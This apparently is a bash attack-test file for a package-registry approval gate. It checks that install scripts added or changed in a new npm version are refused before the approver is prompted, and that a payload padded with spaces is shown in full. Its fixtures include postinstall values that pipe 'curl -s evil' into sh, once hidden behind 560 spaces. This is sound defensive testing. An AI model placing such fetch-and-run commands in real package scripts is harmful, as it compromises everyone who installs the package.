#!/bin/bash
# Guarantee attacked: code that runs on every install never goes live unseen. npm runs a
# package's preinstall, install and postinstall scripts when it installs it. A stager
# adds one to a new version of a live package, or changes the one it had: the checks
# refuse it (install.new) before the approver is prompted, and nothing goes live. A
# scope with install_scripts = deny refuses any install script. A package's first
# version may carry one (popular packages do): the gate is reached only with the
# script quoted whole on its own "  | " line; an unchanged one is not quoted again.
ATTACK_MODE=local
. "$SRCDIR/tests/attacks/harness.sh"

write_conf "[scope @deny/*]
approvers = $A1 $A2
install_scripts = deny"

refused_before_gate() { # NAME VERSION WHAT
	case "$OUT" in *"is live"*) attack_succeeded "$3: approve says $1@$2 is live" ;; esac
	case "$OUT" in *"Verification code"*|*"Approve $1"*) attack_succeeded "$3: the approver was prompted" ;; esac
	packument_has "$1" "$2" 2>/dev/null && attack_succeeded "$3: $1@$2 is live"
	return 0
}

NAME=atk-install-$SUFFIX
# 1. A first version with a postinstall: a warning, and the script is quoted whole.
stage_local "$NAME" 1.0.0 ',"scripts":{"postinstall":"node setup.js"}'
approve_as_a1 0 "$ID"
contains "$OUT" "  install-time script postinstall (no previous, 13 bytes):"
contains "$OUT" "  | node setup.js"
contains "$OUT" "is live"
pass "a first version's postinstall reaches the gate quoted whole on its own line"

# 2. The next version changes it: refused before the gate, old and new named.
stage_local "$NAME" 1.0.1 ',"scripts":{"postinstall":"node setup.js; curl -s evil | sh"}'
approve_as_a1 1 "$ID"
refused_before_gate "$NAME" 1.0.1 "a changed postinstall"
contains "$OUT" "install.new"
contains "$OUT" "(was: node setup.js)"
pass "a postinstall changed since the live version is refused before the gate"

# 3. An install script added next to the unchanged postinstall: refused the same way.
stage_local "$NAME" 1.0.2 ',"scripts":{"postinstall":"node setup.js","preinstall":"node pre.js"}'
approve_as_a1 1 "$ID"
refused_before_gate "$NAME" 1.0.2 "an added preinstall"
contains "$OUT" "'preinstall' is new: node pre.js"
pass "a preinstall added since the live version is refused before the gate"

# 4. Unchanged: a warning only, not quoted again; it goes live.
stage_local "$NAME" 1.0.3 ',"scripts":{"postinstall":"node setup.js"}'
approve_as_a1 0 "$ID"
contains "$OUT" "unchanged since the previous version"
case "$OUT" in *"install-time script postinstall ("*) fail "an unchanged script was quoted as new" ;; esac
contains "$OUT" "is live"
pass "an unchanged postinstall is a warning and goes live"

# 5. A scope that denies install scripts refuses even a first version's.
stage_local "@deny/$NAME" 1.0.0 ',"scripts":{"install":"node-gyp-build"}'
approve_as_a1 1 "$ID"
refused_before_gate "@deny/$NAME" 1.0.0 "install_scripts = deny"
contains "$OUT" "FAIL install.script"
pass "install_scripts = deny refuses any install script before the gate"

# 6. The stager's tag picks no previous version (found by the red-team pass: a tag
# pointing nowhere, "next", made the changed script a first version's warning, and
# the approver saw no diff): the previous is the highest version below, whatever
# the tag.
pack_pkg "$NAME" 1.0.4 ',"scripts":{"postinstall":"node setup.js; curl -s evil | sh"}'
expect_status 0 nr stage --tag next "$TGZ"
ID=$(printf '%s\n' "$OUT" | grep -E '^[0-9a-f-]{36}$' | head -1)
approve_as_a1 1 "$ID"
refused_before_gate "$NAME" 1.0.4 "a changed postinstall under a fresh tag"
contains "$OUT" "install.new"
contains "$OUT" "(was: node setup.js)"
pass "a changed postinstall under a tag with no version is still judged against 1.0.3"
# and a tag that looks like another (an invisible character) is no tag at all
expect_status 2 nr stage --tag $'latest\u200b' "$TGZ"
contains "$OUT" "invalid dist-tag"
expect_status 2 nr stage --tag 1.x "$TGZ"
pass "look-alike and range-like dist-tags are refused"

# 5. A first version whose postinstall hides its payload behind a long run of spaces
# (red team): the quote shows the whole command, the run counted (560 spaces: a longer
# script than 600 bytes is refused, tests/attacks/long_script.sh).
PAD=$(printf '%560s' '')
stage_local "$NAME-pad" 1.0.0 ',"scripts":{"postinstall":"node build.js'"$PAD"'; curl -s evil | sh"}'
approve_as_a1 0 "$ID"
contains "$OUT" "  | node build.js<560 spaces>; curl -s evil | sh"
pass "a payload behind 560 spaces is quoted in sight: node build.js<560 spaces>; curl ..."
